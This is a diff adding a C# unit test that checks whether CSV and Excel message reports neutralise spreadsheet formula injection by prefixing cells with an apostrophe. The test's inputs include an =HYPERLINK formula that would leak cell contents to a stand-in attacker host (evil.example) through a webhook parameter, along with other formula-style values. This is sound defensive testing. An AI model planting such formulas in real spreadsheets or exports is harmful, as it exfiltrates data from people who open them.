@@ -5,6 +5,7 @@ using DocumentFormat.OpenXml.Packaging;
 using DocumentFormat.OpenXml.Spreadsheet;
 using DocumentFormat.OpenXml.Validation;
 using Herald.Tests.Api;
+using Herald.Tests.Support;
 using C = DocumentFormat.OpenXml.Drawing.Charts;
 
 namespace Herald.Tests.Reports;
@@ -170,6 +171,40 @@ public sealed class MessageReportTests(SharedServer shared) : IClassFixture<Shar
         Assert.Equal(3, series.Count);
         Assert.All(series, s => Assert.StartsWith("'Daily'!$", s.Descendants<C.Formula>().Last().Text));
         Assert.Equal("'Daily'!$B$2:$B$4", series[0].GetFirstChild<C.Values>()!.Descendants<C.Formula>().Single().Text);
+    }
+
+    /// <summary>
+    /// Client-chosen text that a spreadsheet would run as a formula (a provider from a webhook's query string, an error
+    /// code from the events API) starts with an apostrophe in the CSV and the Excel file (OWASP, CSV injection); numbers do not.
+    /// </summary>
+    [Fact]
+    public async Task Csv_and_excel_cells_that_start_like_a_formula_get_an_apostrophe()
+    {
+        const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+        var (teamId, client) = await shared.NewTeamAsync("events:write", "metrics:read", "reports:write");
+        var token = (await HeraldServer.ReadData(await client.PostAsync($"/api/v1/teams/{teamId}/webhook-token/rotate", null)))["webhook_token"]!.GetValue<string>();
+        string done = Kit.Day.AddHours(12).ToString("yyMMddHHmm", CultureInfo.InvariantCulture);
+        var receipt = await shared.Server.Client(null).PostAsync($"/webhooks/smpp/{token}?provider={Uri.EscapeDataString(Hyperlink)}",
+            new StringContent($"id:inj-1 done date:{done} stat:UNDELIV err:001", Encoding.UTF8, "text/plain"));
+        Assert.True(receipt.IsSuccessStatusCode, await receipt.Content.ReadAsStringAsync());
+        await Kit.Ingest(client, new[]
+        {
+            new Dictionary<string, object> { ["item_id"] = "inj-2", ["kind"] = "message", ["status"] = "failed", ["occurred_at"] = Kit.At(60),
+                ["provider"] = "-2+3", ["channel"] = "sms", ["error_code"] = "@SUM(1+1)" },
+        });
+        string range = $"start_date={Kit.Day:yyyy-MM-dd}&end_date={Kit.Day:yyyy-MM-dd}";
+
+        var csv = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{range}&format=csv");
+        var sections = ReportKit.CsvSections(Encoding.UTF8.GetString((await ReportKit.Download(client, csv)).Body));
+        var providers = ReportKit.Rows(sections["by_provider"]).ToDictionary(r => r["provider"], r => r["total"]);
+        Assert.Equal(new Dictionary<string, string> { ["'" + Hyperlink] = "1", ["'-2+3"] = "1" }, providers);
+        Assert.Equal(["'@SUM(1+1)", "UNDELIV:001"], ReportKit.Rows(sections["top_errors"]).Select(r => r["code"]).Order(StringComparer.Ordinal));
+
+        var excel = await ReportKit.Generate(client, $"/api/v1/analytics/reports/messages?{range}&format=excel");
+        using var package = SpreadsheetDocument.Open(new MemoryStream((await ReportKit.Download(client, excel)).Body), false);
+        var byProvider = Cells(package.WorkbookPart!, "By provider").Skip(1).ToDictionary(r => r[0].Text, r => r[1].Number);
+        Assert.Equal(new Dictionary<string, double?> { ["'" + Hyperlink] = 1, ["'-2+3"] = 1 }, byProvider);
+        Assert.Equal(["'@SUM(1+1)", "UNDELIV:001"], Cells(package.WorkbookPart!, "Top error codes").Skip(1).Select(r => r[0].Text).Order(StringComparer.Ordinal));
     }
 
     private sealed record XCell(string Text, double? Number, bool Bold);
